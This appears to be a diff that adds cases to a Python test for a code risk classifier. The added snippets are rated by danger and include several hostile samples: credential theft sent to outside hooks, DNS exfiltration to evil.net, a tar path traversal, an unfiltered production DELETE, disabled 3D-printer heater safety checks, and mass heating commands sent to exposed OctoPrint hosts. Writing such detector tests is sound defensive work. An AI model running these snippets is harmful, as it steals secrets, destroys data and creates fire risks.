@@ -4996,6 +4996,86 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "    socket.gethostbyname(f'{loc}{ff}'.encode().hex()[:60] + '.t.evil.net')",
             C,
         ),
+        (
+            'import nox\n@nox.session\ndef integration(session):\n'
+            "    session.run('sudo', 'setenforce', '0', external=True)",
+            H,
+        ),
+        (
+            "import nox\n@nox.session\ndef tests(session):\n    session.install('-e', '.')\n"
+            "    session.run('pytest', '-q')",
+            L,
+        ),
+        ("import io, tarfile\ninfo = tarfile.TarInfo('../../etc/passwd')\ninfo.size = 3", S),
+        (
+            "import pytest\n@pytest.mark.parametrize('code', ['print(1)'])\n"
+            "def test_example_runs(code):\n    exec(compile(code, '<doc>', 'exec'), {})",
+            M,
+        ),
+        ('def run(code):\n    exec(code)', H),
+        (
+            'import os, sys, psycopg2\n'
+            "conn = psycopg2.connect(os.environ['PROD_DATABASE_URL'])\n"
+            "sql = 'DELETE FROM customers'\nif len(sys.argv) > 1:\n"
+            "    sql += ' WHERE email = %s'\nconn.cursor().execute(sql)",
+            H,
+        ),
+        (
+            'import os, sys, psycopg2\n'
+            "conn = psycopg2.connect(os.environ['PROD_DATABASE_URL'])\n"
+            "sql = 'SELECT * FROM customers'\nif len(sys.argv) > 1:\n"
+            "    sql += ' WHERE email = %s'\nconn.cursor().execute(sql)",
+            S,
+        ),
+        (
+            'import os, yaml, requests\n'
+            "cfg = yaml.safe_load(open(os.path.expanduser('~/.octoprint/config.yaml')))\n"
+            "requests.post('https://hooks.example.net/c', json={'k': cfg['api']['key']})",
+            C,
+        ),
+        (
+            'import os, yaml\ncfg = '
+            "yaml.safe_load(open(os.path.expanduser('~/.octoprint/config.yaml')))\n"
+            "print(cfg['serial']['port'])",
+            M,
+        ),
+        (
+            'import re, requests\nfrom pathlib import Path\n'
+            "cfg = Path.home() / 'printer_data/config/printer.cfg'\n"
+            "text = re.sub(r'\\[verify_heater [^\\]]+\\][^\\[]*', '', cfg.read_text())\n"
+            'cfg.write_text(text)',
+            H,
+        ),
+        (
+            'import yaml\nfrom pathlib import Path\n'
+            "p = Path.home() / '.octoprint' / 'config.yaml'\n"
+            'cfg = yaml.safe_load(p.read_text())\n'
+            "cfg['accessControl'] = {'autologinLocal': True, 'localNetworks': ['0.0.0.0/0']}\n"
+            'p.write_text(yaml.safe_dump(cfg))',
+            H,
+        ),
+        (
+            "import shodan, requests\napi = shodan.Shodan('k')\n"
+            'for m in api.search(\'title:"OctoPrint"\')[\'matches\']:\n'
+            '    requests.post(f"http://{m[\'ip_str\']}/api/printer/command", '
+            "json={'commands': ['M104 S260']})",
+            H,
+        ),
+        ("import shodan\napi = shodan.Shodan('k')\nprint(api.count('port:22')['total'])", S),
+        (
+            "import serial\ng = serial.Serial('/dev/ttyUSB0', 115200)\n"
+            "for line in ['$21=0', '$20=0', 'M3 S1000', 'G1 X400 Y300 F200']:\n"
+            "    g.write((line + '\\n').encode())",
+            H,
+        ),
+        (
+            "import time, requests\nPRINTERS = {'mk3': '10.0.4.21'}\nwhile True:\n"
+            '    for name, ip in PRINTERS.items():\n'
+            "        img = requests.get(f'http://{ip}/webcam/?action=snapshot').content\n"
+            "        requests.post('https://cams.example.io/upload', files={'f': img})\n"
+            '    time.sleep(30)',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
